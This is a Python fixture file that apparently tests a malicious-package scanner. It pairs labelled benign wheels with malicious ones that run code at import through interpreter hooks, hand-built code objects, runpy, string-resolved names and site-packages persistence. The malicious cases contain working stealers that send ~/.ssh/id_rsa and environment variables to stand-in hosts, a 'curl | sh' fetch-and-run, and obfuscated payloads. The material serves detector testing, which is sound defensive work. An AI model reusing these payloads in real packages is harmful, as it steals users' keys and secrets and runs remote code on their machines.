"""Ways code runs without being called that the other classes do not list: interpreter
callbacks (profile functions, exception and unraisable hooks, finalizers, gc callbacks,
module `__getattr__`), code objects built by hand, runners of files and source strings
(runpy, the code module, a custom loader), names resolved from strings (pydoc.locate,
operator.attrgetter, functools.reduce over getattr), string annotations evaluated by
`typing.get_type_hints`, and start-up files written into site-packages at import."""

from __future__ import annotations

import base64

from techniques import Case

STEAL = ("key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
         "urllib.request.urlopen('https://k.x.invalid/u', data=key.encode())\n")
PAYLOAD = ("import os, urllib.request\n"
           "urllib.request.urlopen('https://h.x.invalid/e', data=repr(dict(os.environ)).encode())\n")
B64 = base64.b64encode(PAYLOAD.encode()).decode()
RUN = "curl -s https://r.x.invalid/i.sh | sh"


def _body(text: str, indent: int) -> str:
    return "".join(" " * indent + line + "\n" for line in text.splitlines())


def _init(name: str, body: str) -> dict[str, str | bytes]:
    return {f"{name}/__init__.py": "import os, sys, urllib.request\n\n" + body}


CASES = [
    # interpreter callbacks
    Case("sys.setprofile function steals on the first call event", "profsteal", _init(
        "profsteal",
        "def _prof(frame, event, arg):\n    sys.setprofile(None)\n" + _body(STEAL, 4)
        + "\n\nsys.setprofile(_prof)\n"), "malicious", ("PV303",),
        kind="wheel"),
    Case("threading.excepthook set at import; a thread raises to fire it", "thexc", _init(
        "thexc",
        "import threading\n\n\ndef _hook(args):\n" + _body(STEAL, 4)
        + "\n\nthreading.excepthook = _hook\n"
        "threading.Thread(target=lambda: 1 / 0).start()\n"), "malicious", ("PV303",),
        kind="wheel"),
    Case("sys.unraisablehook fired by a __del__ that raises", "unraisable", _init(
        "unraisable",
        "def _hook(unraisable):\n" + _body(STEAL, 4)
        + "\n\nclass _Boom:\n    def __del__(self):\n        raise ValueError()\n\n\n"
        "sys.unraisablehook = _hook\n_Boom()\n"), "malicious", ("PV303",),
        kind="wheel"),
    Case("weakref.finalize runs the stealer when the interpreter exits", "wfinal", _init(
        "wfinal",
        "import weakref\n\n\nclass _Anchor:\n    pass\n\n\ndef _bye():\n" + _body(STEAL, 4)
        + "\n\n_a = _Anchor()\nweakref.finalize(_a, _bye)\n"), "malicious", ("PV303",),
        kind="wheel"),
    Case("gc.callbacks entry sends the environment on the first collection", "gccb", _init(
        "gccb",
        "import gc, json\n\n\ndef _cb(phase, info):\n    gc.callbacks.remove(_cb)\n"
        "    urllib.request.urlopen('https://g.x.invalid/e', "
        "data=json.dumps(dict(os.environ)).encode())\n\n\n"
        "gc.callbacks.append(_cb)\ngc.collect()\n"), "malicious", ("PV303",),
        kind="wheel"),
    Case("gc callback added with += and an unraisable hook set with setattr", "hookset", _init(
        "hookset",
        "import gc\n\n\ndef _cb(phase, info):\n" + _body(STEAL, 4)
        + "\n\ndef _hook(u):\n    _cb(None, None)\n\n\n"
        "gc.callbacks += [_cb]\nsetattr(sys, 'unraisable' + 'hook', _hook)\n"),
        "malicious", ("PV303",), kind="wheel"),
    Case("module __getattr__ (PEP 562) fired by the package's own star-import list",
         "lazyattr", {
        "lazyattr/__init__.py": "from .api import *  # noqa\n",
        "lazyattr/api.py": (
            "import os, urllib.request\n\n__all__ = ['client']\n\n\n"
            "def __getattr__(name):\n" + _body(STEAL, 4) + "    return None\n"),
    }, "malicious", kind="wheel"),
    Case("sys.breakpointhook replaced, then breakpoint() at import", "bphook", _init(
        "bphook",
        "def _bp(*a, **k):\n" + _body(STEAL, 4) + "\n\nsys.breakpointhook = _bp\nbreakpoint()\n"),
        "malicious", ("PV303",), kind="wheel"),
    Case("builtins.__import__ wrapped so every later import runs the stealer", "importwrap",
         _init(
        "importwrap",
        "import builtins\n\n_real = builtins.__import__\n_done = []\n\n\n"
        "def _imp(name, *args, **kwargs):\n    if not _done:\n        _done.append(1)\n"
        + _body(STEAL, 8) + "    return _real(name, *args, **kwargs)\n\n\n"
        "builtins.__import__ = _imp\n"), "malicious", ("PV303",), kind="wheel"),
    Case("logging dictConfig '()' factory naming a process function", "logfactory", _init(
        "logfactory",
        "import logging.config\n\n"
        "logging.config.dictConfig({'version': 1, 'filters': {'f': {\n"
        f"    '()': 'subprocess.' + 'getoutput', 'cmd': {RUN!r}}}}}}})\n"),
        "malicious", ("PV211",), kind="wheel"),
    Case("logging fileConfig of a shipped ini whose handler args run a command", "logini", {
        "logini/__init__.py": (
            "import logging.config, os\n\n"
            "logging.config.fileConfig(os.path.join(os.path.dirname(__file__), 'log.ini'))\n"),
        "logini/log.ini": (
            "[loggers]\nkeys=root\n\n[handlers]\nkeys=h\n\n[formatters]\nkeys=\n\n"
            "[logger_root]\nhandlers=h\n\n[handler_h]\nclass=StreamHandler\n"
            f"args=(__import__('os').system({RUN!r}),)\n"),
    }, "malicious", ("PV302",), kind="wheel"),
    # code objects and runners
    Case("types.FunctionType over compile() of decoded source", "functype", _init(
        "functype",
        f"import base64, types\n\n_code = compile(base64.b64decode({B64!r}), '<x>', 'exec')\n"
        "types.FunctionType(_code, globals())()\n"), "malicious", ("PV201",),
        kind="wheel"),
    Case("code object replaced into a function with __code__ / CodeType.replace", "codeswap",
         _init(
        "codeswap",
        f"import base64\n\n\ndef _noop():\n    pass\n\n\n"
        f"_noop.__code__ = compile(base64.b64decode({B64!r}), '<x>', 'exec')\n_noop()\n"),
        "malicious", ("PV201",),
        kind="wheel"),
    Case("types.CodeType built from hex bytecode and called as a function", "codetype", _init(
        "codetype",
        "import types\n\n"
        "_co = types.CodeType(0, 0, 0, 0, 4, 3, bytes.fromhex('970064006401"
        "6c007d007c006a02000000000000000000006402ab01000000000000010079'),\n"
        "                     (0, None, 'id'), ('os', 'system'), ('os',), '<x>', '<x>', '<x>', 1,\n"
        "                     b'', b'', (), ())\n"
        "types.FunctionType(_co, {})()\n"), "malicious", ("PV201",), kind="wheel"),
    Case("runpy.run_path of a decoded file written to a temp folder", "runpath", _init(
        "runpath",
        f"import base64, runpy, tempfile\n\n"
        "_p = os.path.join(tempfile.mkdtemp(), 'job.py')\n"
        f"with open(_p, 'wb') as fh:\n    fh.write(base64.b64decode({B64!r}))\n"
        "runpy.run_path(_p)\n"), "malicious", ("PV303",),
        kind="wheel"),
    Case("runpy.run_module of a shipped stealer module at import", "runmod", {
        "runmod/__init__.py": "import runpy\n\nrunpy.run_module('runmod._sync')\n",
        "runmod/_sync.py": "import os, urllib.request\n" + STEAL,
    }, "malicious", ("PV303",),
        kind="wheel"),
    Case("code.InteractiveInterpreter().runsource of decoded source", "runsource", _init(
        "runsource",
        f"import base64, code\n\ncode.InteractiveInterpreter().runsource("
        f"base64.b64decode({B64!r}).decode(), '<x>', 'exec')\n"), "malicious", ("PV201",),
        kind="wheel"),
    Case("custom loader whose exec_module execs a string, via spec_from_loader", "strloader",
         _init(
        "strloader",
        "import base64, importlib.util\n\n\nclass _L:\n"
        "    def create_module(self, spec):\n        return None\n\n"
        "    def exec_module(self, module):\n"
        f"        exec(base64.b64decode({B64!r}), module.__dict__)\n\n\n"
        "_spec = importlib.util.spec_from_loader('strloader_rt', _L())\n"
        "_mod = importlib.util.module_from_spec(_spec)\n_spec.loader.exec_module(_mod)\n"),
        "malicious", ("PV201",),
        kind="wheel"),
    # names from strings
    Case("pydoc.locate resolves os.system from a string", "pdlocate", _init(
        "pdlocate",
        f"import pydoc\n\npydoc.locate('os.' + 'system')({RUN!r})\n"), "malicious", ("PV211",),
        kind="wheel"),
    Case("operator.attrgetter fetches system from os", "attrget", _init(
        "attrget",
        f"import operator\n\noperator.attrgetter('sys' + 'tem')(os)({RUN!r})\n"),
        "malicious", ("PV211",),
        kind="wheel"),
    Case("functools.reduce(getattr, ...) walks to subprocess.call", "reducegetattr", _init(
        "reducegetattr",
        "import functools, importlib\n\n"
        "_f = functools.reduce(getattr, ['call'], importlib.import_module('sub' + 'process'))\n"
        f"_f({RUN!r}, shell=True)\n"), "malicious", ("PV211",),
        kind="wheel"),
    Case("string annotation evaluated by typing.get_type_hints at import", "hintrun", _init(
        "hintrun",
        "import typing\n\n\nclass Config:\n"
        f"    endpoint: \"__import__('os').system({RUN!r})\"\n\n\n"
        "typing.get_type_hints(Config)\n"), "malicious", ("PV302",),
        kind="wheel"),
    Case("operator.methodcaller calls system on os", "methcall", _init(
        "methcall",
        f"import operator\n\noperator.methodcaller('sys' + 'tem', {RUN!r})(os)\n"),
        "malicious", ("PV211",), kind="wheel"),
    Case("pkgutil.resolve_name of a built 'module:attr' string", "resolvename", _init(
        "resolvename",
        "import pkgutil\n\n_run = pkgutil.resolve_name('subprocess:' + 'check_call')\n"
        f"_run({RUN!r}, shell=True)\n"), "malicious", ("PV211",), kind="wheel"),
    Case("pydoc.locate of a base64 name, called through a local alias", "locateb64", _init(
        "locateb64",
        "import base64, pydoc\n\n"
        f"_name = base64.b64decode({base64.b64encode(b'os.system').decode()!r}).decode()\n"
        f"_f = pydoc.locate(_name)\n_f({RUN!r})\n"), "malicious", ("PV211",), kind="wheel"),
    Case("module named by an environment setting whose default is subprocess", "envmod", _init(
        "envmod",
        "_m = __import__(os.environ.get('ENVMOD_DRIVER', 'subprocess'))\n"
        f"_m.run({RUN!r}, shell=True)\n"), "malicious", ("PV302",), kind="wheel"),
    Case("os function named by an environment setting's default, through getattr", "envattr",
         _init(
        "envattr",
        f"getattr(os, os.getenv('ENVATTR_CALL', 'system'))({RUN!r})\n"), "malicious",
        ("PV302",), kind="wheel"),
    # persistence written at import
    Case("import-time write of a .pth that runs a command into site-packages", "pthwrite",
         _init(
        "pthwrite",
        "import site\n\n"
        "with open(os.path.join(site.getsitepackages()[0], 'zz_sync.pth'), 'w') as fh:\n"
        f"    fh.write({('import os; os.system(' + repr(RUN) + ')' + chr(10))!r})\n"),
        "malicious", ("PV401",),
        kind="wheel"),
    Case("import-time write of sitecustomize.py that steals, into purelib", "sitewrite", _init(
        "sitewrite",
        "import sysconfig\n\n"
        "_t = os.path.join(sysconfig.get_paths()['purelib'], 'sitecustomize.py')\n"
        "with open(_t, 'a') as fh:\n"
        f"    fh.write({('import os, urllib.request' + chr(10) + STEAL)!r})\n"),
        "malicious", ("PV401",),
        kind="wheel"),
    # benign look-alikes
    Case("logging dictConfig with a '()' formatter factory of the package", "logjson", {
        "logjson/__init__.py": (
            "import logging.config\n\nlogging.config.dictConfig({'version': 1, "
            "'formatters': {'j': {'()': 'logjson.fmt.JsonFormatter'}},\n"
            "    'handlers': {'h': {'class': 'logging.StreamHandler', 'formatter': 'j'}},\n"
            "    'root': {'handlers': ['h']}})\n"),
        "logjson/fmt.py": (
            "import json, logging\n\n\nclass JsonFormatter(logging.Formatter):\n"
            "    def format(self, record):\n"
            "        return json.dumps({'msg': record.getMessage()})\n"),
    }, "benign", kind="wheel"),
    Case("logging fileConfig of a shipped ini with stream and rotating file handlers",
         "logrotate", {
        "logrotate/__init__.py": (
            "import logging.config, os\n\n"
            "logging.config.fileConfig(os.path.join(os.path.dirname(__file__), 'logging.ini'),\n"
            "                          disable_existing_loggers=False)\n"),
        "logrotate/logging.ini": (
            "[loggers]\nkeys=root\n\n[handlers]\nkeys=console,file\n\n[formatters]\n"
            "keys=plain\n\n[logger_root]\nlevel=INFO\nhandlers=console,file\n\n"
            "[handler_console]\nclass=StreamHandler\nformatter=plain\nargs=(sys.stderr,)\n\n"
            "[handler_file]\nclass=handlers.RotatingFileHandler\nformatter=plain\n"
            "args=(os.path.expanduser('~/.logrotate.log'), 'a', 1000000, 3)\n\n"
            "[formatter_plain]\nformat=%(asctime)s %(levelname)s %(message)s\n"),
    }, "benign", kind="wheel"),
    Case("storage backend module chosen by an environment setting with a default",
         "envbackend", {
        "envbackend/__init__.py": (
            "import importlib, os\n\n"
            "backend = importlib.import_module(os.environ.get('ENVBACKEND', "
            "'envbackend.memory'))\nstore = backend.Store()\n"),
        "envbackend/memory.py": (
            "class Store(dict):\n    def put(self, k, v):\n        self[k] = v\n"),
    }, "benign", kind="wheel"),
    Case("profiler that sets sys.setprofile when the user starts it", "tinyprof", _init(
        "tinyprof",
        "import time\n\n_calls = {}\n\n\ndef _prof(frame, event, arg):\n"
        "    if event == 'call':\n"
        "        _calls[frame.f_code.co_name] = _calls.get(frame.f_code.co_name, 0) + 1\n\n\n"
        "def start():\n    sys.setprofile(_prof)\n\n\ndef stop():\n    sys.setprofile(None)\n"
        "    return dict(_calls)\n"), "benign", kind="wheel"),
    Case("thread exception hook that logs, installed at import", "thlog", _init(
        "thlog",
        "import logging, threading\n\n_log = logging.getLogger(__name__)\n\n\n"
        "def _hook(args):\n    _log.error('thread %s failed', args.thread, "
        "exc_info=(args.exc_type, args.exc_value, args.exc_traceback))\n\n\n"
        "threading.excepthook = _hook\n"), "benign", kind="wheel"),
    Case("weakref.finalize removing a temp folder; gc callback counting collections",
         "tmpclean", _init(
        "tmpclean",
        "import gc, shutil, tempfile, weakref\n\nSTATS = {'collections': 0}\n\n\n"
        "class Workspace:\n    def __init__(self):\n        self.path = tempfile.mkdtemp()\n"
        "        weakref.finalize(self, shutil.rmtree, self.path, True)\n\n\n"
        "def _count(phase, info):\n    if phase == 'stop':\n"
        "        STATS['collections'] += 1\n\n\n"
        "gc.callbacks.append(_count)\nDEFAULT = Workspace()\n"), "benign", kind="wheel"),
    Case("module __getattr__ lazy-loading submodules with importlib", "lazysub", {
        "lazysub/__init__.py": (
            "import importlib\n\n__all__ = ['io', 'plot']\n\n\n"
            "def __getattr__(name):\n    if name in __all__:\n"
            "        return importlib.import_module('.' + name, __name__)\n"
            "    raise AttributeError(name)\n"),
        "lazysub/io.py": "def read(path):\n    with open(path) as fh:\n        return fh.read()\n",
        "lazysub/plot.py": "def show(data):\n    print(data)\n",
    }, "benign", kind="wheel"),
    Case("settings registry reading annotations with typing.get_type_hints at import",
         "typedsettings", _init(
        "typedsettings",
        "import typing\n\n\nclass Settings:\n    host: 'str' = 'localhost'\n"
        "    port: 'int' = 8080\n    debug: 'typing.Optional[bool]' = None\n\n\n"
        "FIELDS = typing.get_type_hints(Settings)\n"
        "VALUES = {k: FIELDS[k](os.environ[k.upper()]) for k in ('host', 'port')\n"
        "          if k.upper() in os.environ}\n"), "benign", kind="wheel"),
    Case("plugin class named in config resolved by pydoc.locate; python -m shim through runpy",
         "cfgplugins", {
        "cfgplugins/__init__.py": (
            "import json, pydoc\n\n\ndef load(path):\n    with open(path) as fh:\n"
            "        names = json.load(fh)['plugins']\n"
            "    return [pydoc.locate(n)() for n in names]\n"),
        "cfgplugins/__main__.py": "import runpy\n\nrunpy.run_module('cfgplugins.cli', run_name='__main__')\n",
        "cfgplugins/cli.py": "import sys\n\nprint('plugins:', sys.argv[1:])\n",
    }, "benign", kind="wheel"),
    Case("REPL command running what the user types through code.InteractiveInterpreter",
         "tinyrepl", _init(
        "tinyrepl",
        "import code, operator\n\n\ndef repl(namespace=None):\n"
        "    interp = code.InteractiveInterpreter(namespace or {})\n"
        "    getter = operator.attrgetter('name')\n"
        "    while True:\n        line = input('>>> ')\n        if line == 'exit':\n"
        "            return getter\n        interp.runsource(line)\n"), "benign", kind="wheel"),
    Case("setup.py-free path .pth written by a dev-install helper the user runs", "devlink",
         _init(
        "devlink",
        "import site\n\n\ndef link(src):\n"
        "    with open(os.path.join(site.getsitepackages()[0], 'devlink.pth'), 'w') as fh:\n"
        "        fh.write(os.path.abspath(src) + '\\n')\n"), "benign", kind="wheel"),
]
